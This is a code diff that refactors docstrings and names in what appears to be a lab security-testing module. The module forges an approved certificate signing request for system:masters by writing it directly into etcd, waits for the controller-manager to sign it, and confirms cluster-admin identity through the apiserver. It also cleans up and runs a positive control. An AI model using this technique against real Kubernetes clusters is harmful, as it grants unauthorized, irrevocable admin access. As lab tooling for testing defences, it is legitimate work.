@@ -1,10 +1,10 @@
-"""Forging a certificate request in etcd: what its techniques have in common.
+"""A forged certificate request in etcd: what the techniques that write it share.
 
-Whoever writes to etcd goes around everything that the apiserver checks. What is written here
-is a certificate signing request for a member of ``system:masters`` that says of itself that it
-has been approved: the apiserver would never have let it in (its admission refuses that group),
-but the controller-manager finds it, believes it, and signs it with the cluster's own authority.
-No authorizer refuses anything to ``system:masters``, and Kubernetes cannot revoke a certificate.
+A direct write into etcd bypasses all checks of the apiserver. The forged object is a certificate
+signing request for a member of ``system:masters`` that is already marked as approved. The
+apiserver's admission would refuse this group. The controller manager finds the object and signs
+it with the cluster's CA. No authorizer refuses anything to ``system:masters``, and Kubernetes
+cannot revoke a certificate.
 """
 
 from __future__ import annotations
@@ -36,28 +36,28 @@ SOURCES = (
     "https://kubernetes.io/docs/reference/access-authn-authz/certificate-signing-requests/",
     "https://attack.mitre.org/techniques/T1565/001/",
 )
-#: The apiserver's own: it takes no shorter one.
+#: The shortest validity that the apiserver accepts, in seconds.
 VALID_S = 600
 PATIENCE = 20.0
 REVIEW = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
 
 
 class Store(Protocol):
-    """etcd, as an attacker reaches it."""
+    """Access to etcd, as an attacker has it."""
 
     def put(self, key: str, value: bytes) -> Answer:
         """Write a value."""
 
     def get(self, key: str) -> bytes:
-        """Read a value; empty where there is none."""
+        """Read a value; return no bytes if the key does not exist."""
 
     def delete(self, key: str) -> None:
-        """Delete a key, if it is there."""
+        """Delete a key; do nothing if it does not exist."""
 
 
 @dataclass(frozen=True, slots=True)
 class _Case:
-    """Who forges, and from where."""
+    """The lab, the foothold and the folder of one run."""
 
     lab: Lab
     foothold: Foothold
@@ -67,18 +67,19 @@ class _Case:
 def forge(
     lab: Lab, technique: str, foothold: Foothold, store: Store, how: str, taken: str
 ) -> Verdict:
-    """Write an approved certificate request into etcd, and use what comes of it.
+    """Write an approved certificate request into etcd, and use the signed certificate.
 
     Parameters
     ----------
     lab : Lab
-    technique, foothold : str
+    technique : str
+    foothold : Foothold
     store : Store
-        etcd, as it is reached from there.
+        Access to etcd from the foothold.
     how : str
-        With what: "without a credential", say.
+        With which credential, for the evidence: "without a credential".
     taken : str
-        Why it succeeded, where it does.
+        The reason to give if it succeeds.
 
     Returns
     -------
@@ -88,10 +89,12 @@ def forge(
     ------
     ProbeTimeout
         An answer, or the certificate, did not come in time.
+    ProbeError
+        The key could not be made, or the apiserver did not accept the certificate.
     """
-    it = _Case(lab, foothold, f"/tmp/labkit-{secrets.token_hex(4)}")  # noqa: S108 - the attacker's
+    case = _Case(lab, foothold, f"/tmp/labkit-{secrets.token_hex(4)}")  # noqa: S108 - the attacker's
     evidence = [f"wrote to etcd, {how}: {KEY}"]
-    argv = agents.argv("make_key", it.folder, USER, GROUP)
+    argv = agents.argv("make_key", case.folder, USER, GROUP)
     try:
         made = run_from(lab, foothold, argv)
         if made.exit_code:
@@ -101,14 +104,14 @@ def forge(
             tried = (f"tried to write to etcd, {how}: {KEY}",)
             control = _control(lab)
             return Verdict(technique, lab.mode, foothold, False, answer.refusal, tried, control)
-        run_from(lab, foothold, ["tee", f"{it.folder}/crt"], stdin=_certificate(store))
-        before, after = _who(it, with_it=False), _who(it, with_it=True)
+        run_from(lab, foothold, ["tee", f"{case.folder}/crt"], stdin=_certificate(store))
+        before, after = _user_info(case, with_it=False), _user_info(case, with_it=True)
     finally:
         store.delete(KEY)
-        # With its key, the certificate is gone for good.
-        run_from(lab, foothold, ["rm", "-rf", it.folder])
+        # Without its key, nobody can use the certificate again.
+        run_from(lab, foothold, ["rm", "-rf", case.folder])
     if GROUP not in after.get("groups", ()):
-        raise ProbeError(f"the apiserver takes the forged certificate for {after}")
+        raise ProbeError(f"the apiserver does not see a member of {GROUP}, but {after}")
     evidence += [
         "the controller-manager signed it with the cluster's authority",
         f"to the apiserver, on its TLS port, the attacker was {before.get('username', 'nobody')}",
@@ -118,7 +121,7 @@ def forge(
 
 
 def _request(csr: bytes) -> dict[str, Any]:
-    """Return the object, as the apiserver would store it."""
+    """Return the request as the apiserver would store it."""
     now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
     approved = {
         "type": "Approved",
@@ -148,34 +151,34 @@ def _request(csr: bytes) -> dict[str, Any]:
 
 
 def _certificate(store: Store) -> bytes:
-    """Wait for the certificate, by reading the request in etcd again."""
+    """Wait for the signed certificate by reading the request in etcd repeatedly."""
     deadline = time.monotonic() + PATIENCE
     pem = rb"-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----\n"
     while time.monotonic() < deadline:
         if found := re.search(pem, store.get(KEY)):
             return found[0]
         time.sleep(0.3)
-    raise ProbeTimeout(f"nobody signed the forged request within {PATIENCE:g} s")
+    raise ProbeTimeout(f"the forged request was not signed within {PATIENCE:g} s")
 
 
-def _who(it: _Case, *, with_it: bool) -> dict[str, Any]:
-    """Ask the apiserver's TLS port who one is to it, with the certificate or without."""
-    secure = _secure(it.lab)
+def _user_info(case: _Case, *, with_it: bool) -> dict[str, Any]:
+    """Return the user that the apiserver sees on its TLS port, with or without the certificate."""
+    secure = _tls_channel(case.lab)
     url = f"https://{secure.server.split('@')[1]}:{secure.port}"
-    options = ["--cert", f"{it.folder}/crt", "--key", f"{it.folder}/key"] if with_it else []
+    options = ["--cert", f"{case.folder}/crt", "--key", f"{case.folder}/key"] if with_it else []
     path = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
     body = json.dumps(REVIEW).encode()
-    said = request(it.lab, url + path, foothold=it.foothold, body=body, options=options)
+    said = request(case.lab, url + path, foothold=case.foothold, body=body, options=options)
     if said.refusal and not with_it:
         return {}
     try:
         found: dict[str, Any] = json.loads(said.body)["status"]["userInfo"]
     except (ValueError, KeyError) as error:
-        raise ProbeError(f"{url}: {said.refusal or 'no answer to who I am'}") from error
+        raise ProbeError(f"{url}: {said.refusal or 'the answer names no user'}") from error
     return found
 
 
-def _secure(lab: Lab) -> Channel:
+def _tls_channel(lab: Lab) -> Channel:
     found = read_model(lab.environment).channels
     return next(
         c for c in found if c.server.startswith("kube-apiserver@") and c.protocol == "https"
@@ -183,7 +186,7 @@ def _secure(lab: Lab) -> Channel:
 
 
 def _control(lab: Lab) -> str:
-    """Let the apiserver write to etcd, and take it back."""
+    """Let the apiserver write to etcd, and delete what it wrote: the positive control."""
     path, name = "/api/v1/namespaces/default/configmaps", "labkit-control"
     try:
         create(lab, path, {"metadata": {"name": name}})
